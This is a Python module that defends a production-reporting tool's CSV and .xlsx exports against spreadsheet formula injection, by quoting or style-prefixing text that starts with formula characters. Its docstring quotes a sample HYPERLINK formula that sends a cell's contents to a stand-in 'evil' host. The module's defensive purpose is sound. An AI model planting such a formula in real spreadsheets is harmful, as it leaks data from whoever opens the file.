"""Formula-injection safety for every CSV and .xlsx xlproduction exports (CWE-1236, "CSV injection").

Report cells carry text the production typed or imported: vendor names, budget descriptions, synopses, crew
positions. A spreadsheet reads text that begins with ``= + - @`` (or a tab or carriage return, which some
importers strip first) as a formula, so a vendor called ``=HYPERLINK("http://evil/?"&A1,"Invoice")`` would run
in finance's Excel. Every export neutralises such text in one of two ways, both decided here:

- **CSV** (``csv_text``, ``neutralise_frame``, ``write_csv``): the text gets a leading single quote, the
  convention OWASP recommends and Excel shows as an apostrophe: ``'=HYPERLINK(...)``. Numbers stay numbers
  (a negative amount is a number, not text, and is never touched).
- **.xlsx** (``xlsx_text_needs_prefix``, used by the renderer for sheets with ``literal_text``): the text is kept
  exactly as typed but written as a text cell (never a formula) carrying the *quote prefix* style — what Excel
  itself stores when one types a leading apostrophe — so it shows as typed, and editing the cell (F2, Enter)
  cannot turn it into a formula either. No apostrophe is added to the value, so a description like
  ``-5% discount`` still reads as typed.

The full-width forms of the four characters (＝ ＋ － ＠) are included: Excel with an East Asian input method
reads them as formula starts too.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
_START_PATTERN = "^[" + "".join("\\t" if c == "\t" else "\\r" if c == "\r" else "\\" + c if c in "+-" else c
                               for c in FORMULA_STARTS) + "]"  # fmt: skip
CSV_PREFIX = "'"


def is_formula_like(text: object) -> bool:
    """True for a string a spreadsheet could read as a formula."""
    return isinstance(text, str) and text.startswith(FORMULA_STARTS)


def csv_text(value: object) -> object:
    """A CSV cell value: formula-like text gets a leading quote; anything else is returned unchanged."""
    return CSV_PREFIX + value if is_formula_like(value) else value  # type: ignore[operator]


def xlsx_text_needs_prefix(value: object) -> bool:
    """Whether a text cell in an .xlsx must carry the quote-prefix style (same test as CSV: one definition)."""
    return is_formula_like(value)


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` safe to write as CSV: formula-like text in any text column quoted (vectorised)."""
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if not (pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s)):
            continue
        try:  # on an object column .str works on the strings and gives NA for numbers and dates
            hit = s.str.contains(_START_PATTERN, regex=True, na=False).astype(bool)
        except AttributeError:  # no strings in the column at all
            continue
        if hit.any():
            out[col] = s.where(~hit, CSV_PREFIX + s.astype("string"))
    return out


def write_csv(df: pd.DataFrame, path: str | Path) -> Path:
    """Write ``df`` as a UTF-8 CSV Excel opens with accents intact (byte-order mark), neutralised, atomically."""
    from .safe_write import atomic_save

    safe = neutralise_frame(df)

    def save(tmp: str) -> None:
        safe.to_csv(tmp, index=False, encoding="utf-8-sig", quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")

    return atomic_save(save, Path(path))
